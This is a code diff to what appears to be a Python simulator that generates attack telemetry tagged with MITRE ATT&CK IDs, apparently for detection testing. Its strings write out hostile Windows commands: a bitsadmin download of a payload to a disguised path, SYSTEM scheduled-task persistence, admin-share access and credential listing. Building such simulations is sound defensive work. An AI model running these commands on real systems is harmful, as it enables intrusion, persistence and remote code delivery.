@@ -141,7 +141,7 @@ def moves(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
                 scene, jump, ts_us + 30_000_000, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', shell
             )
             for number, line in enumerate(("quser", f"net use \\\\{files.host.name}\\C$", "cmdkey /list")):
-                typed(scene, jump, ts_us + (60 + 45 * number) * 1_000_000, prompt, line, through="")
+                typed(scene, jump, ts_us + (60 + 45 * number) * 1_000_000, prompt, line)
             _second(scene, story, hold, ts_us + 260_000_000, prompt, session)
             processes.end(scene, prompt, ts_us + int(lasts * 1e6) - 2_000_000)
             processes.end(scene, shell, ts_us + int(lasts * 1e6) - 1_000_000)
@@ -167,13 +167,13 @@ def _second(scene: Scene, story: Story, hold: Hold, ts_us: int, prompt: Running,
     image, name = "C:\\ProgramData\\Intel\\Telemetry\\igfxtray64.exe", "\\Microsoft\\Windows\\Power\\AnalyzePower"
     what = "A task starts another program of theirs on the jump host"
     with story.step(scene, ts_us, "T1053.005 T1036.005", what, host=machine.host, account=hold.account):
-        typed(scene, machine, ts_us, prompt, f"bitsadmin /transfer a https://{site.name}/t {image}", through="")
+        typed(scene, machine, ts_us, prompt, f"bitsadmin /transfer a https://{site.name}/t {image}", lasts_s=4)
         calls_home(scene, story, machine.core["netsvcs"], site, ts_us + 400_000, received=688_128)
         processes.writes(scene, machine.core["netsvcs"], ts_us + 1_500_000, image)
         line = f'schtasks /create /f /sc onstart /ru SYSTEM /tn "{name}" /tr {image}'
-        typed(scene, machine, ts_us + 40_000_000, prompt, line, through="")
+        typed(scene, machine, ts_us + 40_000_000, prompt, line)
         changes.task(scene, machine, ts_us + 40_300_000, session, name, image, "")
-        typed(scene, machine, ts_us + 60_000_000, prompt, f'schtasks /run /tn "{name}"', through="")
+        typed(scene, machine, ts_us + 60_000_000, prompt, f'schtasks /run /tn "{name}"')
         owner = machine.core["netsvcs"]
         hold.second = processes.start(scene, machine, ts_us + 61_000_000, image, image, owner, integrity="System")
     keeps(scene, story, hold, "second", "netsvcs")
@@ -201,7 +201,7 @@ def _service(scene: Scene, story: Story, ts_us: int, parent: Running, server: Ma
         scene, server, ts_us + 2_500_000, _TEMP + name, f"{_TEMP}{name}", server.core["services"], copy_of="wlbsvc.exe"
     )
     typed(scene, server, ts_us + 20_000_000, run, "whoami")
-    typed(scene, server, ts_us + 50_000_000, run, 'dir "D:\\Shares" /s /a-d', image=SYSTEM32 + "cmd.exe", through="")
+    typed(scene, server, ts_us + 50_000_000, run, 'dir "D:\\Shares" /s /a-d')
 
 
 def takes_directory(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
